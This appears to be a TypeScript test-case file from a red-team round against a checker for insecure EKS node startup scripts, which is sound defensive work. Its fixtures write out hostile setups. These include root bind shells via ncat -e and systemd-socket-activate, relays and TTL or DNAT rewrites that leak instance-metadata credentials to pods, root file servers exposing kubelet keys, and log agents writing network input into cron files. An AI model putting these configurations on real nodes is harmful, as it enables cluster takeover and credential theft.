// Red-team round 80 (fresh eyes) on EKS NODE security, area nsec: network listeners and services user data starts on
// nodes (what binds where, loopback vs every address, IMDS reachability from pods, log agents' network inputs, socket
// units, Go/Node/Python/other servers), hardest on round 78's fixes (Node listen({path, port}), Go os.Args writes,
// BindToDevice=lo, fluentd debug_agent, agents' file outputs).
// Probed: Node listen port 0 / options in a variable / spread / host "0" / duplicate host key / env port / number-like
// string port / host from env, path without port; Go Flag.Value.Set, CommandLine.Parse and NewFlagSet.Parse of an
// environment variable, LookupEnv override, os.Args in init(), net.Listen of an empty host, strings.Replace and ":"+port
// rewrites, a built binary run by a unit; socket units (BindToDevice= drop-in and empty reset, ListenStream= reset,
// [::] dual-stack, loopback socket proxying a loopback server); route_localnet + DNAT of a loopback server; IMDS by nft
// DNAT, TTL rewrites (iptables/nft), the IPv6 endpoint fd00:ec2::254, the integer spelling, metadata options by the
// EC2 API; pydoc -n spellings, ruby un.rb httpd, php -S, ncat -e, socketserver, kubectl proxy, systemd-socket-activate,
// systemd-run transient sockets, xinetd, rsyncd, NFS exports; fluentd debug_agent in <worker>/@include, fluentd/Fluent
// Bit/Vector/Telegraf network inputs into file and exec outputs; secure twins.
// Misses (9 insecure accepted, 6 secure refused):
// - insecure, GO-FLAGS-FROM-ENVIRONMENT (2): dev-nsec8/42-rt80n: flag.CommandLine.Parse(strings.Fields(os.Getenv(..)))
//   read as parsing the command line (commandServers.ts goStdFlags/goFlagWords).
// - insecure, AGENT-INGEST-TO-EXEC (4): dev-nsec50/51/56/57-rt80n: fluentd out_exec/out_exec_filter and Telegraf
//   outputs.exec/execd `sh` fed records from a network input (logAgents.ts joins network inputs to file outputs only).
// - insecure, UNREAD-SERVER-BIND-SPELLING (3): dev-nsec53/54/55-rt80n: pydoc -n0.0.0.0 (getopt glued), -n '' and
//   -n "$(hostname -i)" (commandServers.ts commandLineAddresses sees only whole-word addresses).
// - secure, SOCKET-PROXYD-BIND-IGNORED (3): dev-nsec6s/7s/27s-rt80n: systemd-socket-proxyd behind a loopback-only socket
//   unit is judged on every address (relays.ts forwarders).
// - secure, GO-ADDR-REWRITE-PRESERVING (1): dev-nsec18s-rt80n: *addr = strings.TrimSpace(*addr) (fail closed).
// - secure, IMDS-NAMED-NOT-ROUTED (1): dev-nsec22s-rt80n: iptables TTL --ttl-set 1 on IMDS replies judged a relay.
// - secure, BACKGROUND-LIST-CD (1): dev-nsec25s-rt80n: `cd D && cmd &` taken to change the script's directory (the
//   list ran in a subshell), so a later `iptables -t nat` is read as writing D/nat (rootReads.ts).
// Held: 49 of 58 insecure refused (every Node listen spelling, Go Value.Set/LookupEnv/init os.Args/empty host/
// rewrites/built binary/NewFlagSet of the environment, socket reset and drop-in spellings, route_localnet DNAT, IMDS
// nft DNAT/TTL rewrites/IPv6 endpoint/integer spelling, the named servers, debug_agent in <worker>/@include, every
// agent network input into a file output; the socket cases by the proxyd rule whatever their bind); 22 of 28 secure
// clean.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;
const script = devNodeScript;
const file = heredocFile;

/** A Node.js reader of / (any file the client names, as root) with the given listen line(s). */
const nodeServer = (listen: string[]) => [
    'const http = require("http");',
    'const fs = require("fs");',
    "const server = http.createServer((q, s) => fs.createReadStream(q.url).pipe(s));",
    ...listen,
];
const nodeApp = (name: string, listen: string[], unit: string[] = []) =>
    script(name, [
        ...file("/opt/ops/a.js", nodeServer(listen)),
        ...systemdUnit("ops", [...unit, "ExecStart=/usr/bin/node /opt/ops/a.js"]),
    ]);
const GO_MOD = ["module example.com/ops", "", "go 1.22"];
/** A Go file server of / whose main body is `body`. */
const goApp = (name: string, body: string[], run: string, imports = ['"flag"', '"net/http"']) =>
    script(name, [
        ...file("/opt/ops/go.mod", GO_MOD),
        ...file("/opt/ops/main.go", [
            "package main",
            "",
            `import (\n${imports.map(i => `\t${i}`).join("\n")}\n)`,
            "",
            "func main() {",
            ...body.map(l => `\t${l}`),
            "}",
        ]),
        `cd /opt/ops && ${run}`,
    ]);
const GO_ADDR = '\taddr := flag.String("addr", "127.0.0.1:8080", "listen address")';
const GO_SERVE = 'http.ListenAndServe(*addr, http.FileServer(http.Dir("/")))';
/** A socket unit ops.socket (the `socket` lines) activating ops.service, systemd-socket-proxyd to `target`. */
const socketUnit = (socket: string[], dropIn: string[] = [], target = "127.0.0.1:8081") => [
    ...file("/etc/systemd/system/ops.socket", ["[Socket]", ...socket, "[Install]", "WantedBy=sockets.target"]),
    ...(dropIn.length ? file("/etc/systemd/system/ops.socket.d/10-ops.conf", ["[Socket]", ...dropIn]) : []),
    ...file("/etc/systemd/system/ops.service", [
        "[Service]",
        `ExecStart=/usr/lib/systemd/systemd-socket-proxyd ${target}`,
    ]),
    "systemctl daemon-reload",
    "systemctl enable --now ops.socket",
];
/** A loopback-only file server of /etc/kubernetes (python3 http.server -b 127.0.0.1). */
const KUBE_LO = "cd /etc/kubernetes && nohup python3 -m http.server -b 127.0.0.1 8001 >/dev/null 2>&1 &";
const telegrafRoot = (conf: string[]) => [
    "dnf install -y telegraf",
    ...file("/etc/telegraf/telegraf.d/ops.conf", conf),
    ...file("/etc/systemd/system/telegraf.service.d/10-root.conf", ["[Service]", "User=root"]),
    "systemctl daemon-reload && systemctl enable --now telegraf",
];
const fluentd = (conf: string[], path = "/etc/fluent/fluentd.conf", extra: string[] = []) => [
    "dnf install -y fluent-package",
    ...file(path, conf),
    ...extra,
    "systemctl enable --now fluentd",
];
const fluentBit = (conf: string[]) => [
    "dnf install -y fluent-bit",
    ...file("/etc/fluent-bit/fluent-bit.conf", conf),
    "systemctl enable --now fluent-bit",
];
const vector = (conf: string[]) => [
    "dnf install -y vector",
    ...file("/etc/vector/vector.yaml", conf),
    ...file("/etc/systemd/system/vector.service.d/10-root.conf", ["[Service]", "User=root"]),
    "systemctl daemon-reload && systemctl enable --now vector",
];

const insecure: NodeCase[] = [
    // ---- Node.js listen(options), round 78 neighbours ----
    // Node.js net server.listen(options): "If port is specified, it behaves the same as server.listen([port[, host]])
    // ... Otherwise, if path is specified, it behaves the same as server.listen(path)"; "If host is omitted, the
    // server will accept connections on the unspecified IPv6 address (::)"; "If port is omitted or is 0, the operating
    // system will assign an arbitrary unused port": port 0 is TCP on ::, a root reader of any path a client names:
    // whoever connects reads /var/lib/kubelet/kubeconfig's client key and the pods' projected tokens, i.e. the node's
    // identity and every ServiceAccount's role (custody signer's kms:Decrypt/Sign).
    dev(
        "node: listen({ port: 0, path }) is TCP on an arbitrary port of every address",
        nodeApp("dev-nsec1-rt80n", ['server.listen({ port: 0, path: "/run/ops.sock" });']),
    ),
    // The options object held in a variable is the same object (Node.js net server.listen(options)): port wins over
    // path, TCP on every address; a root reader of any path a client names: whoever connects reads
    // /var/lib/kubelet/kubeconfig's client key and the pods' projected tokens, i.e. the node's identity and every
    // ServiceAccount's role (custody signer's kms:Decrypt/Sign).
    dev(
        "node: listen(opts) with opts = { path, port } held in a variable",
        nodeApp("dev-nsec2-rt80n", ['const opts = { path: "/run/ops.sock", port: 8081 };', "server.listen(opts);"]),
    ),
    // Object spread copies base's own port key (ECMAScript CopyDataProperties): listen sees { port, path }: TCP on
    // every address.
    dev(
        "node: listen({ ...base, path }) with base holding the port",
        nodeApp("dev-nsec3-rt80n", [
            "const base = { port: 8081 };",
            'server.listen({ ...base, path: "/run/ops.sock" });',
        ]),
    ),
    // Node resolves host "0" with dns.lookup (getaddrinfo: inet_aton(3) reads "0" as 0.0.0.0): every IPv4 address.
    dev("node: listen(8081, '0') (the host '0' is 0.0.0.0)", nodeApp("dev-nsec4-rt80n", ['server.listen(8081, "0");'])),
    // ECMAScript object literals: a duplicate key's last definition wins (PropertyDefinitionEvaluation): host is "::",
    // every address.
    dev(
        "node: listen({ port: 8081, host: '127.0.0.1', host: '::' }) last key wins",
        nodeApp("dev-nsec5-rt80n", ['server.listen({ port: 8081, host: "127.0.0.1", host: "::" });']),
    ),
    // PORT=8081 from the unit's Environment= (systemd.exec(5)) makes the port key defined: TCP, no host: every
    // address.
    dev(
        "node: listen({ path: process.env.SOCK, port: process.env.PORT }) with PORT set by the unit",
        nodeApp(
            "dev-nsec6-rt80n",
            ["server.listen({ path: process.env.SOCK, port: process.env.PORT });"],
            ["Environment=SOCK=/run/ops.sock", "Environment=PORT=8081"],
        ),
    ),
    // ---- Go flags, round 78 neighbours ----
    // pkg.go.dev flag: Lookup returns the Flag, whose Value.Set changes the variable after Parse: the server binds
    // 0.0.0.0:8080, a root file server of /.
    dev(
        'go: flag.Lookup("addr").Value.Set("0.0.0.0:8080") after Parse',
        goApp(
            "dev-nsec7-rt80n",
            [GO_ADDR, "\tflag.Parse()", '\tflag.Lookup("addr").Value.Set("0.0.0.0:8080")', `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
        ),
    ),
    // pkg.go.dev flag: CommandLine is the default FlagSet; (*FlagSet).Parse(arguments) parses the words given, here
    // the words of OPS_FLAGS (-addr=:8080): the root file server of / binds every address (net.Listen: an empty host
    // listens on all addresses).
    // Was a MISS (fixed in round 80): GO-FLAGS-FROM-ENVIRONMENT (insecure accepted, got []):
    // flag.CommandLine.Parse(X) with X not os.Args is read as parsing the command line (commandServers.ts goStdFlags: `exact` false, goParsedSlice gives no skip,
    // goFlagWords returns the program's argv words, which hold no address). Fix (general): a flag set parsing anything
    // but os.Args[N:] (an environment variable, a file, a literal list) has unknown words unless that value is
    // computable: listenAddressUnknown true (fail closed), as fs.Parse(env) already is (dev-nsec58).
    dev(
        'go: flag.CommandLine.Parse(strings.Fields(os.Getenv("OPS_FLAGS"))) with OPS_FLAGS=-addr=:8080',
        goApp(
            "dev-nsec8-rt80n",
            [GO_ADDR, '\tflag.CommandLine.Parse(strings.Fields(os.Getenv("OPS_FLAGS")))', `\t${GO_SERVE}`],
            "OPS_FLAGS=-addr=:8080 nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"os"', '"strings"'],
        ),
    ),
    // os.LookupEnv reads ADDR=:8080 (given on the command line) and *addr takes it: every address.
    dev(
        'go: addr overridden by os.LookupEnv("ADDR") = :8080 after Parse',
        goApp(
            "dev-nsec9-rt80n",
            [
                GO_ADDR,
                "\tflag.Parse()",
                '\tif v, ok := os.LookupEnv("ADDR"); ok {',
                "\t\t*addr = v",
                "\t}",
                `\t${GO_SERVE}`,
            ],
            "ADDR=:8080 nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"os"'],
        ),
    ),
    // The Go spec "Package initialization": init functions run before main, so os.Args holds -addr=:8080 when
    // flag.Parse runs.
    dev(
        'go: os.Args = append(os.Args, "-addr=:8080") before Parse, in a func init()',
        script("dev-nsec10-rt80n", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/init.go", [
                "package main",
                "",
                'import "os"',
                "",
                "func init() {",
                '\tos.Args = append(os.Args, "-addr=:8080")',
                "}",
            ]),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"flag"\n\t"net/http"\n)',
                "",
                "func main() {",
                GO_ADDR,
                "\tflag.Parse()",
                `\t${GO_SERVE}`,
                "}",
            ]),
            "cd /opt/ops && nohup go run . >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // pkg.go.dev net.Listen: "If the host in the address parameter is empty or a literal unspecified IP address,
    // Listen listens on all available unicast and anycast IP addresses of the local system".
    dev(
        'go: net.Listen("tcp", os.Getenv("ADDR")) with ADDR unset (empty host: every address)',
        goApp(
            "dev-nsec11-rt80n",
            ['l, _ := net.Listen("tcp", os.Getenv("ADDR")+":8080")', 'http.Serve(l, http.FileServer(http.Dir("/")))'],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"net"', '"net/http"', '"os"'],
        ),
    ),
    // ---- socket units, round 78 BindToDevice neighbours ----
    // systemd.unit(5): drop-ins are read after the unit file and override single-value settings; BindToDevice=
    // (systemd.socket(5)) ends as eth0, so ListenStream=8081 ("a single number ... IPv6 ... and IPv4") is reachable
    // from pods and proxies the loopback /etc/kubernetes server.
    dev(
        "socket: ListenStream=8081 with BindToDevice=lo in the unit, BindToDevice=eth0 in a drop-in",
        script("dev-nsec12-rt80n", [
            KUBE_LO,
            ...socketUnit(["ListenStream=8081", "BindToDevice=lo"], ["BindToDevice=eth0"], "127.0.0.1:8001"),
        ]),
    ),
    // systemd.socket(5) ListenStream=: "If the empty string is assigned to any of these options, the list of addresses
    // to listen on is reset"; the drop-in then listens on 0.0.0.0.
    dev(
        "socket: ListenStream=127.0.0.1:8081, a drop-in resets ListenStream= and adds 0.0.0.0:8081",
        script("dev-nsec13-rt80n", [
            KUBE_LO,
            ...socketUnit(
                ["ListenStream=127.0.0.1:8081"],
                ["ListenStream=", "ListenStream=0.0.0.0:8081"],
                "127.0.0.1:8001",
            ),
        ]),
    ),
    // systemd.socket(5) BindToDevice=: an empty assignment clears the device (systemd.syntax(7): an empty value resets
    // a setting): every interface.
    dev(
        "socket: BindToDevice=lo then BindToDevice= (empty: no device)",
        script("dev-nsec14-rt80n", [
            KUBE_LO,
            ...socketUnit(["ListenStream=8081", "BindToDevice=lo", "BindToDevice="], [], "127.0.0.1:8001"),
        ]),
    ),
    // systemd.socket(5) BindIPv6Only=: default "both" (dual-stack): [::]:8081 reaches IPv4 clients too.
    dev(
        "socket: ListenStream=[::]:8081 (dual-stack by default, BindIPv6Only=default)",
        script("dev-nsec15-rt80n", [KUBE_LO, ...socketUnit(["ListenStream=[::]:8081"], [], "127.0.0.1:8001")]),
    ),
    // The loopback bind is undone by the proxy: systemd-socket-proxyd relays ListenStream=8081 (every address) to the
    // /etc/kubernetes server.
    dev(
        "socket: proxy to a loopback /etc/kubernetes file server from ListenStream=8081",
        script("dev-nsec16-rt80n", [KUBE_LO, ...socketUnit(["ListenStream=8081"], [], "127.0.0.1:8001")]),
    ),
    // ---- loopback made reachable ----
    // Linux ip-sysctl route_localnet: "Do not consider loopback addresses as martian source or destination while
    // routing"; with the DNAT rule (iptables-extensions DNAT) a pod's packet to node:8001 reaches 127.0.0.1:8001, the
    // loopback /etc/kubernetes server.
    dev(
        "route_localnet=1 + DNAT eth0:8001 -> 127.0.0.1:8001 of a loopback /etc/kubernetes server",
        script("dev-nsec17-rt80n", [
            "sysctl -w net.ipv4.conf.all.route_localnet=1",
            "iptables -t nat -A PREROUTING -p tcp --dport 8001 -j DNAT --to-destination 127.0.0.1:8001",
            KUBE_LO,
        ]),
    ),
    // As dev-nsec17, route_localnet from sysctl.d (sysctl.d(5), applied by sysctl --system).
    dev(
        "route_localnet=1 in sysctl.d + DNAT to a loopback /etc/kubernetes server",
        script("dev-nsec18-rt80n", [
            ...file("/etc/sysctl.d/90-ops.conf", ["net.ipv4.conf.all.route_localnet = 1"]),
            "sysctl --system",
            "iptables -t nat -I PREROUTING -p tcp --dport 8001 -j DNAT --to 127.0.0.1:8001",
            KUBE_LO,
        ]),
    ),
    // nft DNAT of pod traffic to 169.254.169.254: the node routes pods' requests to instance metadata; with IMDSv1
    // allowed or a hop limit above 1 they get the node role's credentials (EKS best practices, "Restrict access to the
    // instance profile assigned to the worker node"); a node route to instance metadata is refused whatever the hop
    // limit (DECIDED in round 78, dev-nsec11s-rt78s).
    dev(
        "nft DNAT of pod traffic to 169.254.169.254 (the node's instance metadata) on :8080",
        script("dev-nsec19-rt80n", [
            "nft add table ip ops",
            "nft add chain ip ops pre '{ type nat hook prerouting priority -100; }'",
            "nft add rule ip ops pre tcp dport 8080 dnat to 169.254.169.254:80",
        ]),
    ),
    // ---- IMDS reachability from pods ----
    // ---- IMDS reachability from pods ----
    // iptables-extensions TTL target (mangle table): --ttl-set rewrites the IMDS reply's TTL, undoing
    // httpPutResponseHopLimit 1 (EC2 user guide: "the hop limit ... containers"): pods get IMDSv2 tokens and the node
    // role's credentials.
    dev(
        "iptables mangle TTL --ttl-set 64 on instance metadata's replies (IMDSv2 tokens reach pods)",
        script("dev-nsec20-rt80n", [
            "iptables -t mangle -A PREROUTING -s 169.254.169.254/32 -p tcp --sport 80 -j TTL --ttl-set 64",
        ]),
    ),
    // nft(8) `ip ttl set`: the same as dev-nsec20 in nftables.
    dev(
        "nft: ip ttl set 64 for instance metadata's replies",
        script("dev-nsec21-rt80n", [
            "nft add table ip ops",
            "nft add chain ip ops pre '{ type filter hook prerouting priority -150; }'",
            "nft add rule ip ops pre ip saddr 169.254.169.254 ip ttl set 64",
        ]),
    ),
    // ---- other programs' servers ----
    // pydoc -n 0.0.0.0 (docs.python.org pydoc: "-n <hostname> will start the server listening at the given hostname"):
    // an unread server on every address (the pack's own rule: fail closed).
    dev(
        "python3 -m pydoc -n 0.0.0.0 -p 8080 (its getfile? page shows any file, as root)",
        script("dev-nsec22-rt80n", ["nohup python3 -m pydoc -n 0.0.0.0 -p 8080 >/dev/null 2>&1 &"]),
    ),
    // Ruby un.rb `httpd` runs WEBrick (BindAddress unset: every address) serving /etc/kubernetes: a root reader of any
    // path a client names: whoever connects reads /var/lib/kubelet/kubeconfig's client key and the pods' projected
    // tokens, i.e. the node's identity and every ServiceAccount's role (custody signer's kms:Decrypt/Sign).
    dev(
        "ruby -run -e httpd /etc/kubernetes -p 8080 (WEBrick on every address)",
        script("dev-nsec23-rt80n", ["nohup ruby -run -e httpd /etc/kubernetes -p 8080 >/dev/null 2>&1 &"]),
    ),
    // php.net built-in web server: `php -S 0.0.0.0:8080 -t DIR` serves DIR on every address: the kubelet's kubeconfig
    // and PKI.
    dev(
        "php -S 0.0.0.0:8080 -t /etc/kubernetes",
        script("dev-nsec24-rt80n", ["nohup php -S 0.0.0.0:8080 -t /etc/kubernetes >/dev/null 2>&1 &"]),
    ),
    // ncat(1) -e: "Execute the given command after a connection has been established"; -l without an address: every
    // address: a root shell.
    dev(
        "ncat -lk 8080 -e /bin/sh (a root shell on every address)",
        script("dev-nsec25-rt80n", ["nohup ncat -lk 8080 -e /bin/sh >/dev/null 2>&1 &"]),
    ),
    // Python socketserver: server_address ("", 8080): the empty host binds INADDR_ANY; SimpleHTTPRequestHandler serves
    // the cwd /etc/kubernetes.
    dev(
        "python3 -c with a socketserver TCPServer(('', 8080)) reading /etc/kubernetes",
        script("dev-nsec26-rt80n", [
            `cd /etc/kubernetes && nohup python3 -c 'import http.server,socketserver; socketserver.TCPServer(("", 8080), http.server.SimpleHTTPRequestHandler).serve_forever()' >/dev/null 2>&1 &`,
        ]),
    ),
    // kubectl proxy --address 0.0.0.0 --accept-hosts: every pod calls the API server as the kubelet's identity
    // (system:node).
    dev(
        "kubectl proxy --address=0.0.0.0 --accept-hosts='.*' with the kubelet's kubeconfig",
        script("dev-nsec27-rt80n", [
            "nohup kubectl --kubeconfig /var/lib/kubelet/kubeconfig proxy --address=0.0.0.0 --accept-hosts='.*' >/dev/null 2>&1 &",
        ]),
    ),
    // ---- log agents: network inputs, round 78 neighbours ----
    // fluentd <worker N> directive (docs.fluentd.org multi-process workers) still starts debug_agent: dRuby on
    // 0.0.0.0:24230 (in_debug_agent.rb), Ruby as root.
    dev(
        "fluentd: debug_agent inside <worker 0>",
        script(
            "dev-nsec28-rt80n",
            fluentd(["<worker 0>", "  <source>", "    @type debug_agent", "  </source>", "</worker>"]),
        ),
    ),
    // fluentd @include (docs.fluentd.org config-file "Reuse your config: the @include directive") pulls in debug_agent
    // bind 0.0.0.0.
    dev(
        "fluentd: debug_agent in an @include'd conf.d file",
        script(
            "dev-nsec29-rt80n",
            fluentd(["@include conf.d/*.conf"], "/etc/fluent/fluentd.conf", [
                ...file("/etc/fluent/conf.d/debug.conf", [
                    "<source>",
                    "  @type debug_agent",
                    "  bind 0.0.0.0",
                    "</source>",
                ]),
            ]),
        ),
    ),
    // fluentd in_forward (bind default 0.0.0.0, docs.fluentd.org input/forward) records written by out_file into
    // /etc/cron.d: a root cron line chosen by any pod.
    dev(
        "fluentd: <source> @type forward -> <match> @type file path /etc/cron.d/ops",
        script(
            "dev-nsec30-rt80n",
            fluentd([
                "<source>",
                "  @type forward",
                "  bind 0.0.0.0",
                "</source>",
                "<match **>",
                "  @type file",
                "  path /etc/cron.d/ops",
                "  append true",
                "</match>",
            ]),
        ),
    ),
    // Fluent Bit in_forward Listen 0.0.0.0 and out_file Path/File (docs.fluentbit.io outputs/file): records into
    // /etc/profile.d/ops.sh, sourced by root's login shells.
    dev(
        "fluent bit: [INPUT] forward Listen 0.0.0.0 -> [OUTPUT] file File /etc/profile.d/ops.sh",
        script(
            "dev-nsec31-rt80n",
            fluentBit([
                "[INPUT]",
                "    Name   forward",
                "    Listen 0.0.0.0",
                "[OUTPUT]",
                "    Name   file",
                "    Match  *",
                "    Path   /etc/profile.d",
                "    File   ops.sh",
                "    Format plain",
            ]),
        ),
    ),
    // Fluent Bit in_syslog Mode tcp (docs.fluentbit.io inputs/syslog) -> out_file in /etc/cron.d (file named by the
    // tag).
    dev(
        "fluent bit: [INPUT] syslog Mode tcp Listen 0.0.0.0 -> file /etc/cron.d",
        script(
            "dev-nsec32-rt80n",
            fluentBit([
                "[INPUT]",
                "    Name   syslog",
                "    Mode   tcp",
                "    Listen 0.0.0.0",
                "[OUTPUT]",
                "    Name   file",
                "    Match  *",
                "    Path   /etc/cron.d",
            ]),
        ),
    ),
    // Vector socket source (vector.dev sources/socket, mode tcp) -> file sink /etc/cron.d/ops as root (drop-in
    // User=root).
    dev(
        "vector (root): socket source tcp 0.0.0.0:9000 -> file sink /etc/cron.d/ops",
        script(
            "dev-nsec33-rt80n",
            vector([
                "sources:",
                "  in:",
                "    type: socket",
                "    mode: tcp",
                '    address: "0.0.0.0:9000"',
                "sinks:",
                "  out:",
                "    type: file",
                "    inputs: [in]",
                "    path: /etc/cron.d/ops",
                "    encoding:",
                "      codec: text",
            ]),
        ),
    ),
    // Telegraf inputs.socket_listener service_address tcp://:8094 (every address) -> outputs.file
    // /etc/profile.d/ops.sh as root.
    dev(
        "telegraf (root): socket_listener tcp://:8094 -> outputs.file /etc/profile.d/ops.sh",
        script(
            "dev-nsec34-rt80n",
            telegrafRoot([
                "[[inputs.socket_listener]]",
                '  service_address = "tcp://:8094"',
                "[[outputs.file]]",
                '  files = ["/etc/profile.d/ops.sh"]',
                '  data_format = "influx"',
            ]),
        ),
    ),
    // Telegraf inputs.influxdb_v2_listener :8086 -> outputs.file /etc/cron.d/ops as root.
    dev(
        "telegraf (root): influxdb_v2_listener :8086 -> outputs.file /etc/cron.d/ops",
        script(
            "dev-nsec35-rt80n",
            telegrafRoot([
                "[[inputs.influxdb_v2_listener]]",
                '  service_address = ":8086"',
                "[[outputs.file]]",
                '  files = ["/etc/cron.d/ops"]',
            ]),
        ),
    ),
    // Node.js lib/net.js: listen(arg) with a string that converts to a number is a port (isPipeName: toNumber(s) ===
    // false), not a pipe: TCP on every address.
    dev(
        'node: listen("8081") (a number-like string is a TCP port, not a pipe name)',
        nodeApp("dev-nsec36-rt80n", ['server.listen("8081");']),
    ),
    // As dev-nsec36, the number-like string from the unit's Environment=SOCK=8081.
    dev(
        "node: listen(process.env.SOCK) with SOCK=8081 in the unit",
        nodeApp("dev-nsec37-rt80n", ["server.listen(process.env.SOCK);"], ["Environment=SOCK=8081"]),
    ),
    // Nullish coalescing keeps HOST=0.0.0.0 from the unit: every address.
    dev(
        "node: listen({ port: 8081, host: process.env.HOST ?? '127.0.0.1' }) with HOST=0.0.0.0 in the unit",
        nodeApp(
            "dev-nsec38-rt80n",
            ['server.listen({ port: 8081, host: process.env.HOST ?? "127.0.0.1" });'],
            ["Environment=HOST=0.0.0.0"],
        ),
    ),
    // strings.Replace rewrites the loopback default to 0.0.0.0 before ListenAndServe.
    dev(
        "go: *addr rewritten by strings.Replace to 0.0.0.0 after Parse",
        goApp(
            "dev-nsec39-rt80n",
            [GO_ADDR, "\tflag.Parse()", '\t*addr = strings.Replace(*addr, "127.0.0.1", "0.0.0.0", 1)', `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"strings"'],
        ),
    ),
    // ":" + port drops the flag's host: net/http ListenAndServe(":8080") listens on every address.
    dev(
        'go: ListenAndServe of ":" + the flag\'s port (host dropped)',
        goApp(
            "dev-nsec40-rt80n",
            [
                GO_ADDR,
                "\tflag.Parse()",
                "\t_, port, _ := net.SplitHostPort(*addr)",
                '\thttp.ListenAndServe(":"+port, http.FileServer(http.Dir("/")))',
            ],
            "nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net"', '"net/http"'],
        ),
    ),
    // The built binary run by the unit with -addr :8080: every address.
    dev(
        "go: built to /usr/local/bin/ops, ExecStart=/usr/local/bin/ops -addr :8080",
        script("dev-nsec41-rt80n", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"flag"\n\t"net/http"\n)',
                "",
                "func main() {",
                GO_ADDR,
                "\tflag.Parse()",
                `\t${GO_SERVE}`,
                "}",
            ]),
            "cd /opt/ops && go build -o /usr/local/bin/ops .",
            ...systemdUnit("ops", ["ExecStart=/usr/local/bin/ops -addr :8080"]),
        ]),
    ),
    // As dev-nsec8, OPS_FLAGS from the unit's Environment= (systemd.exec(5)): the built binary binds 0.0.0.0:8080.
    // Was a MISS (fixed in round 80): GO-FLAGS-FROM-ENVIRONMENT (insecure accepted, got []): as dev-nsec8, the words
    // from the unit's Environment=.
    dev(
        'go: flag.CommandLine.Parse(strings.Fields(os.Getenv("OPS_FLAGS"))), OPS_FLAGS in the unit\'s Environment=',
        script("dev-nsec42-rt80n", [
            ...file("/opt/ops/go.mod", GO_MOD),
            ...file("/opt/ops/main.go", [
                "package main",
                "",
                'import (\n\t"flag"\n\t"net/http"\n\t"os"\n\t"strings"\n)',
                "",
                "func main() {",
                GO_ADDR,
                '\tflag.CommandLine.Parse(strings.Fields(os.Getenv("OPS_FLAGS")))',
                `\t${GO_SERVE}`,
                "}",
            ]),
            "cd /opt/ops && go build -o /usr/local/bin/ops .",
            ...systemdUnit("ops", ['Environment="OPS_FLAGS=-addr 0.0.0.0:8080"', "ExecStart=/usr/local/bin/ops"]),
        ]),
    ),
    // Neighbour (round 80): pkg.go.dev flag (*FlagSet).Parse parses the list it is given, here a literal list the code
    // holds: -addr 0.0.0.0:8080 whatever the command line says (commandServers.ts goParsesOtherWords).
    dev(
        'go: flag.CommandLine.Parse([]string{"-addr", "0.0.0.0:8080"}) -fix80',
        goApp(
            "dev-nsec60-fix80",
            [GO_ADDR, '\tflag.CommandLine.Parse([]string{"-addr", "0.0.0.0:8080"})', `\t${GO_SERVE}`],
            "nohup go run . >/var/log/ops.log 2>&1 &",
        ),
    ),
    // Neighbour (round 80): a *flag.FlagSet parameter parsing the environment's words (OPS_FLAGS=-addr=:8080): the
    // flag set is held elsewhere, its words are not the command line's: every address.
    dev(
        "go: func parse(fs *flag.FlagSet) { fs.Parse(strings.Fields(os.Getenv(...))) } -fix80",
        goApp(
            "dev-nsec61-fix80",
            [
                GO_ADDR,
                '\tparse := func(fs *flag.FlagSet) { fs.Parse(strings.Fields(os.Getenv("OPS_FLAGS"))) }',
                "\tparse(flag.CommandLine)",
                `\t${GO_SERVE}`,
            ],
            "OPS_FLAGS=-addr=:8080 nohup go run . >/var/log/ops.log 2>&1 &",
            ['"flag"', '"net/http"', '"os"', '"strings"'],
        ),
    ),
    // EC2 user guide: instance metadata's IPv6 endpoint is [fd00:ec2::254]: a relay on every address hands pods the
    // node role's credentials.
    dev(
        "socat relay to instance metadata's IPv6 endpoint [fd00:ec2::254]:80 on every address",
        script("dev-nsec43-rt80n", [
            "nohup socat TCP6-LISTEN:8080,fork,reuseaddr TCP6:[fd00:ec2::254]:80 >/dev/null 2>&1 &",
        ]),
    ),
    // inet_aton(3): a single number is the whole 32-bit address: 2852039166 = 169.254.169.254.
    dev(
        "socat relay to instance metadata spelled as the integer 2852039166",
        script("dev-nsec44-rt80n", ["nohup socat TCP-LISTEN:8080,fork,reuseaddr TCP:2852039166:80 >/dev/null 2>&1 &"]),
    ),
    // nginx proxy_pass to instance metadata's IPv6 endpoint on listen 8080 (every address).
    dev(
        "nginx proxy_pass http://[fd00:ec2::254] on listen 8080",
        script("dev-nsec45-rt80n", [
            "dnf install -y nginx",
            ...file("/etc/nginx/conf.d/ops.conf", [
                "server {",
                "    listen 8080;",
                "    location / { proxy_pass http://[fd00:ec2::254]; }",
                "}",
            ]),
            "systemctl enable --now nginx",
        ]),
    ),
    // systemd-socket-activate(1) --inetd: the connection is the program's stdin/stdout; -l 8080 listens on every
    // address: a root shell.
    dev(
        "systemd-socket-activate -l 8080 --inetd -a /bin/sh (a root shell per connection)",
        script("dev-nsec46-rt80n", ["nohup systemd-socket-activate -l 8080 --inetd -a /bin/sh >/dev/null 2>&1 &"]),
    ),
    // systemd-run(1) --socket-property makes a transient socket; Accept=yes with StandardInput=socket
    // (systemd.exec(5)) gives each connection a root /bin/sh.
    dev(
        "systemd-run --socket-property=ListenStream=8080 Accept=yes, stdin socket, /bin/sh",
        script("dev-nsec47-rt80n", [
            "systemd-run --unit ops --socket-property=ListenStream=8080 --socket-property=Accept=yes -p StandardInput=socket /bin/sh",
        ]),
    ),
    // rsyncd.conf(5): without `address` the daemon binds every address; `read only = no`, uid root, path /: any pod
    // rewrites the node's files.
    dev(
        "rsync --daemon with a read-write module of / (uid root) on every address",
        script("dev-nsec48-rt80n", [
            ...file("/etc/rsyncd.conf", ["uid = root", "gid = root", "[root]", "    path = /", "    read only = no"]),
            "systemctl enable --now rsyncd",
        ]),
    ),
    // exports(5): `*` every host, no_root_squash, insecure (any source port): a pod mounts / read-write as root.
